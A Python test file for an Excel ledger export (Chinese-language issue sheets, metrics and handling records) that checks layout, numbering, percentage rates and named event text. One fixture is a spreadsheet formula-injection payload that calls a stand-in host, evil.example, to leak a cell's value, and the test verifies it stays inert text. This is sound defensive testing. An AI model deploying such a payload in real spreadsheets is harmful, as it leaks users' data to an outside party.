"""The ledger a clerk files: title rows, 序号, autofilter, frozen headers, rates as percentages,
办理记录 in words with people's names, and texts that look like formulas kept as text."""

from __future__ import annotations

import io
import zipfile
from datetime import date

from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from bot.clock import FixedClock
from bot.i18n import Translator
from bot.render.ledger import ledger_xlsx
from storage.db import Database
from tests.story import TZ, Story, park

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"查看")'


async def workbook(db: Database, clock: FixedClock) -> tuple[Workbook, bytes]:
    story = await Story.open(db, clock, cadres=["陈志远", "王晓峰"])
    first = story.report("陈志远", park(16, 9), FORMULA).claim(park(16, 10))
    first.progress(park(16, 11), "+86 电话已联系").contact(park(16, 12))
    first.resolve(park(17), "@供电公司 已恢复供电")
    first.rate(park(18), "unsolved", "dissatisfied").resolve(park(19), "-再次处理")
    first.rate(park(20), "solved", "basic")
    story.report("王晓峰", park(16, 9)).claim(park(16, 10)).transfer(park(16, 11), "陈志远")
    await story.play()
    clock.set(park(25, 10))
    ledger = await story.services.ledger.ledger(None, date(2026, 11, 1), date(2026, 11, 30))
    data = ledger_xlsx(ledger, Translator("zh_CN"), TZ)
    return load_workbook(io.BytesIO(data)), data


def rows(book: Workbook, sheet: str) -> list[list[object]]:
    return [list(r) for r in book[sheet].iter_rows(values_only=True)]


async def test_every_sheet_has_a_title_a_numbered_filtered_frozen_table(
    db: Database, clock: FixedClock
) -> None:
    book, _ = await workbook(db, clock)
    assert book.sheetnames == ["问题台账", "指标", "办理记录"]
    for name in book.sheetnames:
        ws = book[name]
        assert ws["A1"].value == f"开发区 {name}（2026-11-01 至 2026-11-30）"
        assert ws["A2"].value == "序号" and ws["A2"].font.bold
        assert ws.freeze_panes == "A3"
        assert ws.auto_filter.ref is not None and ws.auto_filter.ref.startswith("A2:")
    tickets = rows(book, "问题台账")
    assert [r[0] for r in tickets[2:]] == [1, 2]
    assert tickets[2][6] == "陈志远" and tickets[2][11:14] == ["已关闭", "已解决", "基本满意"]


async def test_events_are_words_with_names_not_ids_or_json(db: Database, clock: FixedClock) -> None:
    book, _ = await workbook(db, clock)
    events = rows(book, "办理记录")[2:]
    first = [(r[4], r[5]) for r in events if r[1] == 1]
    assert first == [
        ("联系人（陈志远包联企业）", "登记"),
        ("系统", "分派给陈志远"),
        ("陈志远", "签收"),
        ("陈志远", "进展：+86 电话已联系"),
        ("陈志远", "联系企业"),
        ("陈志远", "办结：@供电公司 已恢复供电"),
        ("联系人（陈志远包联企业）", "评价：未解决/不满意，退回重办"),
        ("陈志远", "办结：-再次处理"),
        ("联系人（陈志远包联企业）", "评价：已解决/基本满意"),
    ]
    assert ("王晓峰", "转办：王晓峰 → 陈志远") in [(r[4], r[5]) for r in events]
    assert [r[0] for r in events] == list(range(1, len(events) + 1))
    text = " ".join(str(v) for r in events for v in r)
    assert "{" not in text and str(Story.cadre_tg(0)) not in text


async def test_rates_are_percentages(db: Database, clock: FixedClock) -> None:
    book, _ = await workbook(db, clock)
    ws = book["指标"]
    headers = [c.value for c in ws[2]]
    park_row = {h: c for h, c in zip(headers, ws[3], strict=True)}
    assert park_row["范围"].value == "全园区"
    assert park_row["办结率"].value == 0.5 and park_row["办结率"].number_format == "0.0%"
    assert park_row["解决率"].value == 1 and park_row["解决率"].number_format == "0.0%"
    assert park_row["综合得分"].value == 85.0


async def test_texts_that_look_like_formulas_stay_text(db: Database, clock: FixedClock) -> None:
    book, data = await workbook(db, clock)
    cell = book["问题台账"]["F3"]
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix
    for name in (
        "xl/worksheets/sheet1.xml",
        "xl/worksheets/sheet2.xml",
        "xl/worksheets/sheet3.xml",
    ):
        assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read(name)  # no live formula
